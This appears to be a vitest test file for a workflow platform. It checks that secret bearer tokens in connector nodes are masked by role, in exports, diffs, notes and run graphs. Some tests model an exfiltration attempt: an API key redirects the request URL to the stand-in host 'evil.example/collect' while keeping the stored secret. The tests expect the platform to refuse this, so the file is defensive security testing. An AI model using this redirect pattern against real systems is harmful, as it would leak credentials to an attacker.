import { beforeEach, describe, expect, test } from "vitest";
import type { Caller } from "#lib/api/operations/define/caller";
import { invoke } from "#lib/api/operations/define/define-operation";
import { requestContext } from "#lib/api/operations/define/request-context.fixture";
import { OPERATIONS } from "#lib/api/operations/registry";
import type { WebOperations } from "#lib/api/operations/web-operations";
import { errorOf } from "#lib/contract/error/error-of.fixture";
import type { Definition } from "#lib/contract/workflow/graph";
import type { Role } from "#lib/contract/workspace/roles";
import { greeting } from "#lib/domain/workflows/workflow.fixture";
import { addWorkspace, type TestWorkspace } from "#lib/domain/workspaces/workspace.fixture";
import { db } from "#lib/platform/db/pool";
import { useTestDatabase } from "#lib/platform/db/test-database";

useTestDatabase();

const SECRET = "Bearer top-secret-4711";

let workspace: TestWorkspace;
let workflowId: string;
beforeEach(async () => {
  workspace = await addWorkspace();
  workflowId = (await as("editor")("create_workflow", { name: "Orders", definition: withSecret(SECRET) })).workflow_id;
});

function withSecret(authorization: string, url = "https://shop.example/orders"): Definition {
  const { nodes, edges } = greeting();
  const params = { method: "GET", url, headers: { authorization } };
  const data = { name: "Ask", connector: "http", operation: "request", params };
  return {
    nodes: [...nodes, { id: "ask", type: "connector", position: { x: 0, y: 100 }, data }],
    edges: [...edges, { id: "e2", source: "start", target: "ask" }, { id: "e3", source: "ask", target: "answer" }],
  };
}

type Ask = <Name extends keyof WebOperations>(
  name: Name,
  input: WebOperations[Name]["input"],
) => Promise<WebOperations[Name]["output"]>;

function callAs(caller: Caller): Ask {
  return async <Name extends keyof WebOperations>(name: Name, input: WebOperations[Name]["input"]) => {
    const operation = OPERATIONS.find((candidate) => candidate.name === name);
    if (!operation) throw new Error(`there is no operation ${name}`);
    return (await invoke(operation, caller, input, requestContext())) as WebOperations[Name]["output"];
  };
}
const as = (role: Role) => callAs({ kind: "user", role, name: "Ada", ...workspace });
const asKey = () =>
  callAs({
    kind: "api_key",
    keyId: "0199b7c2-0000-7000-8000-000000000000",
    prefix: "svc_Qm4x",
    name: "Bot",
    ...workspace,
    scopes: ["workflows:read", "workflows:write"],
    actionSlugs: null,
  });

const shows = (value: unknown) => JSON.stringify(value).includes("top-secret-4711");
const draftOf = async () =>
  (await db().query("select draft from workflows where id = $1", [workflowId])).rows[0].draft as Definition;

describe("a secret in a definition", () => {
  test("is shown to editors, and masked for viewers, approvers and keys", async () => {
    expect(shows(await as("editor")("get_workflow", { workflow_id: workflowId }))).toBe(true);
    for (const ask of [as("viewer"), as("approver"), asKey()]) {
      const shown = await ask("get_workflow", { workflow_id: workflowId });
      expect(shows(shown)).toBe(false);
      expect(JSON.stringify(shown.definition)).toContain("Bearer [REDACTED]");
    }
  });

  test("is masked in the answer to a key that edits the workflow", async () => {
    const operations = [{ op: "update_node" as const, node_id: "ask", data: { name: "Ask again" } }];
    expect(shows(await asKey()("update_workflow", { workflow_id: workflowId, operations }))).toBe(false);
    expect(shows(await draftOf())).toBe(true);
  });

  test("stays when a key sends the masked definition back, with changes that cannot move it", async () => {
    const { definition } = await asKey()("get_workflow", { workflow_id: workflowId });
    await asKey()("update_workflow", { workflow_id: workflowId, definition });
    const operations = [
      {
        op: "update_node" as const,
        node_id: "ask",
        data: { maxRetries: 2, params: { method: "POST", body: { a: 1 } } },
      },
    ];
    await asKey()("update_workflow", { workflow_id: workflowId, operations });
    expect(shows(await draftOf())).toBe(true);
    const moved = definition.nodes.map((node) => ({ ...node, position: { x: 7, y: 7 } }));
    await asKey()("update_workflow", { workflow_id: workflowId, definition: { ...definition, nodes: moved } });
    expect(shows(await draftOf())).toBe(true);
  });

  const EVIL = "https://evil.example/collect";
  test.each([
    ["a definition with the mask", { definition: withSecret("Bearer [REDACTED]", EVIL) }],
    ["an operation", { operations: [{ op: "update_node" as const, node_id: "ask", data: { params: { url: EVIL } } }] }],
    [
      "operations that also rename the step",
      {
        operations: [
          { op: "rename_node" as const, node_id: "ask", new_id: "other" },
          { op: "update_node" as const, node_id: "other", data: { params: { url: EVIL } } },
        ],
      },
    ],
  ])(
    "is not sent to another address by a key with %s: the refusal names the field and what to do",
    async (_how, change) => {
      const before = await draftOf();
      const error = await errorOf(asKey()("update_workflow", { workflow_id: workflowId, ...change }));
      expect([error.code, error.status, error.reason]).toEqual(["FORBIDDEN", 403, "person_required"]);
      expect(error.message).toMatch(
        /Ask has a secret in params\.headers\.authorization .* (params\.url|other\.id) .* connection/,
      );
      expect(await draftOf()).toEqual(before);
    },
  );

  test("leaves when a key changes the address and sends its own value", async () => {
    await asKey()("update_workflow", { workflow_id: workflowId, definition: withSecret("Bearer my-own-1", EVIL) });
    expect(shows(await draftOf())).toBe(false);
  });

  test("moves with the address when a person who may read it changes the address", async () => {
    const changed = withSecret(SECRET, EVIL);
    await as("editor")("save_draft", { workflow_id: workflowId, expected_revision: 1, definition: changed });
    expect(shows(await draftOf())).toBe(true);
  });

  test("is a warning of the preview and of the publish, and does not prevent it", async () => {
    const warning = { code: "SECRET_IN_DEFINITION", node_id: "ask", field: "params.headers.authorization" };
    const preview = await as("editor")("preview_publish", { workflow_id: workflowId });
    expect([preview.problems, preview.warnings]).toMatchObject([[], [warning]]);
    const made = await as("editor")("deploy_workflow", { workflow_id: workflowId, slug: "orders" });
    expect(made).toMatchObject({ version: 1, warnings: [warning] });
    expect(shows(made)).toBe(false);
  });

  test("is masked in the differences between versions", async () => {
    await as("editor")("deploy_workflow", { workflow_id: workflowId, slug: "orders" });
    const other = withSecret("Bearer another-5822");
    await as("editor")("save_draft", { workflow_id: workflowId, expected_revision: 1, definition: other });
    const changes = await as("viewer")("compare_versions", { workflow_id: workflowId, from: 1, to: "draft" });
    expect(changes.graph.changed).toMatchObject([{ fields: [{ was: "Bearer [REDACTED]", now: "Bearer [REDACTED]" }] }]);
    expect(JSON.stringify(changes)).not.toMatch(/4711|5822/);
  });

  test("is masked in an export for every role, and the import asks for it instead of sending the mask", async () => {
    const document = await as("owner")("export_workflow", { workflow_id: workflowId });
    expect(shows(document)).toBe(false);
    const { workflow, missing } = await as("editor")("import_workflow", { document });
    const message =
      "Ask: params.headers.authorization contains [REDACTED] instead of a secret. Fill it in, or choose a connection.";
    expect(missing).toEqual([{ node_id: "ask", kind: "secret", message }]);
    const refused = await errorOf(as("editor")("deploy_workflow", { workflow_id: workflow.workflow_id, slug: "copy" }));
    expect([refused.code, refused.details]).toMatchObject(["PUBLISH_VALIDATION_FAILED", [{ code: "SECRET_MASKED" }]]);
  });

  test("is masked in a note for viewers and in an export, and the rest of the note stays", async () => {
    const note = { id: "note-a", color: "blue" as const, position: { x: 0, y: 0 }, width: 240, height: 160 };
    const text = `Ada's key: ${SECRET}, ask ada@shop.example`;
    const notes = [{ ...note, text }];
    await as("editor")("save_draft", { workflow_id: workflowId, expected_revision: 1, notes });
    expect((await as("editor")("get_workflow", { workflow_id: workflowId })).notes).toEqual(notes);
    const shown = [{ ...note, text: "Ada's key: Bearer [REDACTED], ask ada@shop.example" }];
    expect((await as("viewer")("get_workflow", { workflow_id: workflowId })).notes).toEqual(shown);
    expect((await as("owner")("export_workflow", { workflow_id: workflowId })).notes).toEqual(shown);
  });

  test("is masked in the graph of a run for viewers", async () => {
    await as("editor")("deploy_workflow", { workflow_id: workflowId, slug: "orders" });
    const { run_id } = await as("editor")("run_action", { slug: "orders", input: { who: "Ada" } });
    expect(shows(await as("viewer")("get_run_graph", { run_id }))).toBe(false);
    expect(shows(await as("editor")("get_run_graph", { run_id }))).toBe(true);
  });
});
